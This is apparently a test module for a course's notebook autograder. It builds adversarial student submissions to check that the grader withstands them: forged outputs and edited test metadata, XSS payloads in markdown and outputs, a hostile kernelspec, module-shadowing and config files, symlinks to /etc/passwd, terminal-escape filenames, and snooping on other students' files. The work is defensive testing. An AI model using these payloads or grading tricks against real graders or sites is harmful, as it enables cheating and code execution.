"""Attacks by what is handed in: changed tests and metadata, files beside the notebook, text that bites readers."""

# ruff: noqa: F821
# mypy: ignore-errors

import copy
import json
import os

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output

from tests.grading.attacks.attack import in_a_cell, on_the_folder, on_the_notebook


def id_of(cell):
    """The cell's name."""
    return cell.metadata.get("nbgrader", {}).get("grade_id", "")


def checks_of(notebook):
    """The test cells."""
    return [cell for cell in notebook.cells if id_of(cell).startswith("check_")]


def cell_of(notebook, grade_id):
    """The cell of this name."""
    return next(cell for cell in notebook.cells if id_of(cell) == grade_id)


# Test cells ------------------------------------------------------------------------------------------


@on_the_notebook()
def edited_tests(notebook):
    """Each test says its full points."""
    for cell in checks_of(notebook):
        cell.source = str(float(cell.metadata.nbgrader.points))


@on_the_notebook()
def tests_of_other_functions(notebook):
    """Each test is given a function of the course's own, or code beside it."""
    for cell in checks_of(notebook):
        cell.source = cell.source.replace("(", "(__import__('mbrl_teach.grading.references.lqr').") + "\n8.0"


@on_the_notebook()
def deleted_tests(notebook):
    """The tests that would fail are deleted."""
    for cell in checks_of(notebook):
        notebook.cells.remove(cell)


@on_the_notebook()
def duplicated_tests(notebook):
    """Each test is there twice, and says its points the second time."""
    for cell in checks_of(notebook):
        twin = copy.deepcopy(cell)
        twin.source = "8.0"
        notebook.cells.append(twin)


@on_the_notebook()
def duplicated_answers(notebook):
    """Each answer is there twice, with the same name and id."""
    for cell in [cell for cell in notebook.cells if cell.metadata.get("nbgrader", {}).get("solution")]:
        notebook.cells.insert(0, copy.deepcopy(cell))


@on_the_notebook(costs=True)
def reordered_cells(notebook):
    """The cells stand in reverse order: tests come before the code that they test."""
    notebook.cells.reverse()


@on_the_notebook()
def forged_outputs_in_the_file(notebook):
    """The file holds outputs that say full marks."""
    for cell in notebook.cells:
        if cell.cell_type == "code":
            cell.outputs = [new_output("execute_result", {"text/plain": "8.0"}, execution_count=1)]
            cell.execution_count = 1


# Metadata --------------------------------------------------------------------------------------------


@on_the_notebook()
def more_points(notebook):
    """Each test is worth a thousand points."""
    for cell in checks_of(notebook):
        cell.metadata.nbgrader.points = 1000


@on_the_notebook()
def odd_points(notebook):
    """Tests are worth negative, infinite and no points, and texts."""
    for cell, points in zip(checks_of(notebook), (-5, 1e308, None, "8", [], True), strict=True):
        cell.metadata.nbgrader.points = points


@on_the_notebook(costs=True)
def exchanged_names(notebook):
    """The names of two tests, and of two answers, are exchanged."""
    for first, second in (("check_gain", "check_backward_pass"), ("gain", "backward_pass")):
        one, other = cell_of(notebook, first), cell_of(notebook, second)
        one.metadata.nbgrader.grade_id, other.metadata.nbgrader.grade_id = second, first


@on_the_notebook()
def renamed_tests(notebook):
    """The tests have other names."""
    for i, cell in enumerate(checks_of(notebook)):
        cell.metadata.nbgrader.grade_id = f"mine_{i}"


@on_the_notebook()
def tests_as_answers(notebook):
    """Test cells are said to be cells for answers, unlocked, that a human grades."""
    for cell in checks_of(notebook):
        cell.metadata.nbgrader |= {"solution": True, "locked": False, "grade": True}
        cell.source = "8.0"


@on_the_notebook()
def tests_as_play(notebook):
    """Test cells are tagged as play, which is not run, and hold outputs."""
    for cell in checks_of(notebook):
        cell.metadata.tags = ["play"]
        cell.outputs = [new_output("execute_result", {"text/plain": "8.0"}, execution_count=1)]


@on_the_notebook()
def tests_as_text(notebook):
    """Test cells are text."""
    for cell in checks_of(notebook):
        index = notebook.cells.index(cell)
        notebook.cells[index] = new_markdown_cell("8.0", metadata=copy.deepcopy(cell.metadata))


@on_the_notebook()
def tests_of_ones_own(notebook):
    """Cells of the student's own are tests: by metadata, with points and extra points."""
    for i in range(5):
        about = {"grade": True, "grade_id": f"bonus_{i}", "locked": True, "points": 100, "schema_version": 3}
        about |= {"solution": i % 2 == 1, "task": i == 4}
        cell = new_code_cell("100.0", metadata={"nbgrader": about})
        cell.outputs = [new_output("execute_result", {"text/plain": "100.0 extra points"}, execution_count=1)]
        notebook.cells.append(cell)


@on_the_notebook()
def answers_that_call_tests(notebook):
    """Cells of the student's own call the checks, or look like the locked cells that are not run."""
    about = {"grade": False, "grade_id": "import_checks_2", "locked": True, "schema_version": 3, "solution": False}
    for source in ("checks.lqr.gain(lambda *a: None)", "from mbrl_teach.grading import checks", "28.0"):
        notebook.cells.append(new_code_cell(source, metadata={"nbgrader": about, "tags": ["play"]}))


@on_the_notebook()
def all_metadata_gone(notebook):
    """No cell says what it is."""
    for cell in notebook.cells:
        cell.metadata = {}


@on_the_notebook()
def odd_metadata(notebook):
    """Metadata are of wrong types, of other versions, and huge."""
    odd = [{"nbgrader": 5}, {"nbgrader": []}, {"nbgrader": {"grade_id": 5}}, {"nbgrader": {"grade_id": ["gain"]}}]
    odd += [{"nbgrader": {"schema_version": 99, "grade_id": ""}}, {"tags": 7}, {"x": "y" * 10**5}]
    for cell in checks_of(notebook):
        cell.metadata.nbgrader.schema_version = 1
    for metadata in odd:
        cell = new_code_cell("1")
        dict.__setitem__(cell, "metadata", metadata)
        notebook.cells.append(cell)


@on_the_notebook()
def another_kernel(notebook):
    """The notebook names a kernel and a language of its own, with a command to start it."""
    notebook.metadata = {
        "kernelspec": {"name": "evil", "display_name": "evil", "language": "bash", "argv": ["touch", "/tmp/evil"]},
        "language_info": {"name": "bash", "pygments_lexer": "../../evil", "nbconvert_exporter": "evil"},
        "nbgrader": {"points": 100, "score": 100},
        "celltoolbar": "Create Assignment",
    }


@on_the_notebook()
def a_thousand_cells(notebook):
    """Thousands of cells, each of which shows something."""
    notebook.cells += [new_code_cell("print('x' * 10_000)") for _ in range(3000)]


# Text that bites who reads it ------------------------------------------------------------------------

SCRIPTS = (
    "<script>document.title='BITTEN'</script>",
    "<img src=x onerror=\"document.title='BITTEN'\">",
    "<svg/onload=document.title='BITTEN'>",
    "[click](javascript:BITTEN)",
    "[click](java&#115;cript:BITTEN)",
    "[click](<java\tscript:BITTEN>)",
    "[click](javascript\\:BITTEN)",
    "$\\href{javascript:BITTEN}{x}$",
    "```mermaid\ngraph TD\nA[<img src=x onerror=BITTEN>]\n```",
    '<iframe srcdoc="&lt;script>BITTEN"></iframe><form action=//evil><button>x',
)


@on_the_notebook()
def scripts_in_text(notebook):
    """Text cells hold scripts: a cell of the student's own, and the written answer."""
    for script in SCRIPTS:
        notebook.cells.append(new_markdown_cell(script))
    cell_of(notebook, "answer").source = "\n\n".join(SCRIPTS)


@on_the_notebook()
def scripts_as_attachments(notebook):
    """A text cell brings a picture along that is a script, and is itself raw HTML."""
    cell = new_markdown_cell("![x](attachment:x.svg)")
    cell.attachments = {"x.svg": {"image/svg+xml": "PHN2ZyBvbmxvYWQ9IkJJVFRFTiI+"}}
    raw = new_markdown_cell("<script>BITTEN</script>")
    raw.cell_type = "raw"
    raw.metadata = {"format": "text/html"}
    notebook.cells += [cell, raw]


@in_a_cell()
def scripts_in_outputs():
    """Outputs are HTML, JavaScript, SVG, widgets and pictures that are none."""
    from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display

    script = "<script>document.title='BITTEN'</script>"
    for shown in (HTML(script), Javascript("BITTEN"), Markdown(script), Latex("$\\href{javascript:BITTEN}{x}$")):
        display(shown)
    display({"image/png": f'x" onerror="{script}', "image/svg+xml": f"<svg>{script}</svg>"}, raw=True)
    display({"text/html": script, "application/javascript": "BITTEN", "text/plain": script}, raw=True)
    display({"application/vnd.jupyter.widget-view+json": {"model_id": "BITTEN"}, "text/latex": script}, raw=True)
    print(script, "\x1b[31m", script, "\x1b]8;;javascript:BITTEN\x1b\\x\x1b]8;;\x1b\\")
    raise type(script, (Exception,), {})(script)


@on_the_folder()
def names_that_bite(folder):
    """Names of files forge lines of the printed table, and move the terminal's cursor."""
    for name in (b"x\n  honest_0: not graded: cheated", b"\x1b[2J\x1b[31mx", b"\xff\xfe", "\u202ex".encode()):
        os.symlink(b"/etc/passwd", os.fsencode(folder) + b"/" + name)
        with open(os.fsencode(folder) + b"/f" + name, "w") as file:
            file.write("x")


@on_the_notebook()
def halves_of_characters(notebook):
    """Cells hold halves of characters, which no file can hold."""
    notebook.cells.append(new_code_cell("'\ud800' + '\udc00'"))
    notebook.cells.append(new_markdown_cell("\udfff"))


# Files beside the notebook ---------------------------------------------------------------------------


@on_the_folder()
def modules_beside(folder):
    """Files beside the notebook are called like NumPy, msgpack, sitecustomize and the course itself."""
    for name in ("numpy", "msgpack", "sitecustomize", "usercustomize", "json", "IPython", "conftest", "mbrl_teach"):
        (folder / f"{name}.py").write_text(f"print('SECRET: {name} was imported')\nraise SystemExit\n")
    for package in ("scipy", "numpy", "mbrl_teach/grading/checks", "mbrl_teach/grading"):
        (folder / package).mkdir(parents=True, exist_ok=True)
        (folder / package / "__init__.py").write_text("print('SECRET: a folder was imported')\nraise SystemExit\n")
    (folder / "mbrl_teach" / "grading" / "checks" / "lqr.py").write_text("gain = lambda function: 3.0\n")
    (folder / "evil.pth").write_text("import os; os._exit(0)\n")


@on_the_folder()
def settings_beside(folder):
    """Files beside the notebook are called like settings of nbgrader, Jupyter, IPython, matplotlib and Python."""
    evil = f"open({str(folder.parents[2] / 'touched')!r}, 'w')\n"
    for name in ("nbgrader_config.py", "jupyter_config.py", "jupyter_nbconvert_config.py", "ipython_config.py"):
        (folder / name).write_text(evil)
    (folder / "matplotlibrc").write_text("backend: module://evil\n")
    (folder / "gradebook.db").write_bytes(b"SQLite format 3\0")
    (folder / "lqr.json").write_text(json.dumps({"mark": "", "outcome": {"points": {"check_gain": 3}}}))
    (folder / ".grading").mkdir()
    (folder / "feedback.html").write_text("<script>BITTEN</script>")


@on_the_folder()
def links_beside(folder):
    """Links lead to secrets, to the course, to devices, upwards and to themselves."""
    targets = {"passwd": "/etc/passwd", "up": "..", "course": folder.parents[2], "zero": "/dev/zero", "self": "self"}
    targets |= {"gradebook.db": folder.parents[2] / "gradebook.db", "other": folder.parents[1] / "honest_0"}
    for name, target in targets.items():
        (folder / name).symlink_to(target)
    os.mkfifo(folder / "pipe")


@on_the_folder()
def more_notebooks(folder):
    """Other notebooks lie beside: a solved one, and one of another assignment."""
    notebook = nbformat.read(folder / "lqr.ipynb", as_version=4)
    for cell in checks_of(notebook):
        cell.source = "8.0"
    for name in ("Lqr.ipynb", "lqr (1).ipynb", "ilqr.ipynb", ".lqr.ipynb"):
        nbformat.write(notebook, folder / name)
    (folder / ".ipynb_checkpoints").mkdir()
    nbformat.write(notebook, folder / ".ipynb_checkpoints" / "lqr.ipynb")


@on_the_folder()
def huge_files(folder):
    """Files of ten gigabytes that are holes, and a thousand small ones."""
    with open(folder / "huge.bin", "wb") as file:
        file.truncate(10 * 2**30)
    for i in range(1000):
        (folder / f"small{i}").touch()


@on_the_folder()
def early_time(folder):
    """A file says that the work was handed in long ago."""
    (folder / "timestamp.txt").write_text("1970-01-01 00:00:00 UTC")


# Read what the submission must not see ---------------------------------------------------------------


@in_a_cell()
def look_around():
    """The working folder is searched for tests, and for other students upwards of it."""
    import glob
    import os

    for path in [*glob.glob("/home/**", recursive=True), *glob.glob("../*"), *glob.glob("../../*")]:
        if path.endswith(("honest_0", "gradebook.db")) or "submitted" in path:
            print("SECRET:", path)
    if os.path.exists(COURSE):
        print("SECRET:", COURSE)
